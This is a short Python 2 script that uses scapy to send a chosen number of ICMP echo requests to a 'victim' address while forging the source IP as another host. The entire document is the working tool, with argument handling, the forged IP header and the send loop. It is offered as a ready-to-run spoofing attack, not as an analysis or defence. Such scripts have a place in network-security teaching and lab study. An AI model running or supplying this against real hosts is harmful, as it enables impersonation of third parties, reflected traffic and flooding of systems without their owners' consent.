#!/usr/bin/python
# An echo request in somebody else's name.  (Python 2)
#   spoof_ping.py VICTIM SPOOFED COUNT
from scapy.all import *
import sys

if len(sys.argv) != 4:
    print "usage: %s victim spoofed count" % sys.argv[0]
    sys.exit(1)

victim, spoofed = sys.argv[1], sys.argv[2]
count = int(sys.argv[3])

a = IP()
a.dst = victim
a.src = spoofed
for i in xrange(count):
    b = ICMP(id=0x77, seq=i)
    p = a/b/("ping number " + `i`)
    send(p, verbose=0)
    print "sent", p.summary(),
    print "(%d octets)" % len(p)
print "done"
